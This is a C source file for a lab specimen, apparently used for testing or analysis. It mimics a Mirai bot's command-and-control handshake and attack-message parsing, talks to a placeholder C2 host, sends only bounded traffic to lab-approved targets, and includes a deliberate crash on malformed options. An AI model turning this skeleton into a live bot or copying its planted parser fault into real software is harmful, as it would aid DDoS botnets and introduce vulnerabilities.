/*
 * vectorbot: a harmless stand-in with the shape of a Mirai bot, as public
 * analyses describe its protocol: it sends four bytes 00 00 00 01, one byte
 * with the length of its name, and the name; then two zero bytes now and
 * then, which the server sends back. An attack message is
 *
 *   length (2, whole message)  seconds (4)  vector (1)
 *   targets (1), each: address (4) prefix (1)
 *   options (1), each: key (1) length (1) value
 *
 * all in network order. Vectors 0 (UDP), 1 (a child goes on), 2 (DNS question
 * of option 8), 3 (connects), 10 (HTTP GET of option 22) do something small
 * and bounded; others nothing. A message without targets ends the connection;
 * one whose options reach beyond its end crashes the bot.
 */
#include <arpa/inet.h>
#include <sys/socket.h>

#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "actions.h"
#include "common.h"

#define SERVER_NAME "c2.vectorbot.example"
#define SERVER_FALLBACK "198.18.13.39"
#define SERVER_PORT 23
#define NAME "specimen"
#define PING_SECONDS 10
#define MESSAGE_MAX 512
#define VALUE_SIZE 128
#define OPTION_PORT 7
#define OPTION_NAME 8
#define OPTION_PATH 22

static int serverSocket = -1;

struct order {
	unsigned seconds;
	uint8_t vector;
	struct in_addr target;
	int port;
	char name[VALUE_SIZE], path[VALUE_SIZE];
};

/* Reads exactly n bytes; 0 or -1. */
static int
recvAll(int fd, uint8_t *buf, size_t n)
{
	while (n > 0) {
		ssize_t got = recv(fd, buf, n, 0);
		if (got <= 0)
			return -1;
		buf += got;
		n -= (size_t)got;
	}
	return 0;
}

static void
takeOption(struct order *o, uint8_t key, const uint8_t *value, size_t n)
{
	char text[VALUE_SIZE];

	if (n >= sizeof text)
		n = sizeof text - 1;
	memcpy(text, value, n);
	text[n] = '\0';
	if (key == OPTION_PORT)
		o->port = atoi(text);
	else if (key == OPTION_NAME)
		memcpy(o->name, text, n + 1);
	else if (key == OPTION_PATH)
		memcpy(o->path, text, n + 1);
}

/* 0; -1 without targets; dies when the options reach beyond the message. */
NOINLINE int
parseOrder(struct order *o, const uint8_t *p, size_t n)
{
	size_t at = 6;

	memset(o, 0, sizeof *o);
	o->port = 9;
	if (n < 7 || p[5] == 0 || n < 6 + (size_t)p[5] * 5 + 1)
		return -1;
	o->seconds = (unsigned)p[0] << 24 | (unsigned)p[1] << 16 |
	    (unsigned)p[2] << 8 | p[3];
	o->vector = p[4];
	memcpy(&o->target, p + at, 4); /* the others get nothing */
	at += (size_t)p[5] * 5;
	for (unsigned options = p[at++]; options > 0; options--) {
		if (at + 2 > n || at + 2 + p[at + 1] > n)
			crash();
		takeOption(o, p[at], p + at + 2, p[at + 1]);
		at += 2 + (size_t)p[at + 1];
	}
	return 0;
}

NOINLINE void
processOrder(const struct order *o)
{
	struct in_addr ignored;
	int seconds = o->seconds > SECONDS_MAX ? SECONDS_MAX : (int)o->seconds;

	if (!labHas(o->target))
		return;
	switch (o->vector) {
	case 0:
		sendUdp(o->target, o->port, 5);
		break;
	case 1:
		holdTarget(serverSocket, o->target, o->port, seconds);
		break;
	case 2:
		resolveName(o->name, &ignored);
		break;
	case 3:
		sendTcp(o->target, o->port, 3);
		break;
	case 10:
		sendHttp(o->target, o->path[0] != '\0' ? o->path : "/");
		break;
	default:
		break;
	}
}

/* Waits for one message; 0 or -1. */
NOINLINE int
recvOrder(void)
{
	static const uint8_t ping[2];
	uint8_t head[2], body[MESSAGE_MAX];
	struct order o;

	if (!waitReadable(serverSocket, PING_SECONDS))
		return sendAll(serverSocket, ping, sizeof ping);
	if (recvAll(serverSocket, head, sizeof head) == -1)
		return -1;
	size_t n = (size_t)head[0] << 8 | head[1];
	if (n == 0)
		return 0; /* our ping came back */
	if (n < 2 || n - 2 > sizeof body ||
	    recvAll(serverSocket, body, n - 2) == -1)
		return -1;
	reapChildren();
	if (parseOrder(&o, body, n - 2) == -1)
		return -1;
	processOrder(&o);
	return 0;
}

NOINLINE int
initConnection(void)
{
	static const uint8_t hello[] = { 0, 0, 0, 1, sizeof NAME - 1 };

	hangUp(&serverSocket);
	serverSocket = connectServer(SERVER_NAME, SERVER_FALLBACK, SERVER_PORT);
	if (serverSocket == -1 ||
	    sendAll(serverSocket, hello, sizeof hello) == -1)
		return -1;
	return sendAll(serverSocket, NAME, sizeof NAME - 1);
}

static void
bot(void)
{
	for (;;) {
		int up = initConnection() == 0;
		while (up && recvOrder() == 0)
			;
		hangUp(&serverSocket);
		sleep(up ? 1 : 5);
	}
}

int
main(void)
{
	labGuard("vectorbot");
	keep(bot);
}
